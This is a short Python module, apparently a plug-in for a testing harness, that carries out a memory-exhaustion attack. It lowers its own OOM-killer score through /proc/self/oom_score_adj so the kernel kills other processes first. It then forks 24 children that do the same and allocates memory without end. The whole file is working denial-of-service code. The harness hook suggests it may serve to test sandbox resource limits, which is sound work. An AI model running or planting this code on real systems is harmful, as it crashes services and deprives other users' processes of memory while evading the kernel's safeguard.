"""Takes memory in several processes, after trying not to be the first that is killed for it."""

import os


def protect():
    for value in ("-1000", "0"):
        try:
            with open("/proc/self/oom_score_adj", "w", encoding="ascii") as file:
                file.write(value)
            return
        except OSError:
            continue


def attack(tools, original, *args, **kwargs):
    tools.witness()
    protect()
    for _ in range(24):
        if os.fork() == 0:
            protect()
            break
    held = []
    while True:
        held.append(bytearray(b"x") * 2**20)
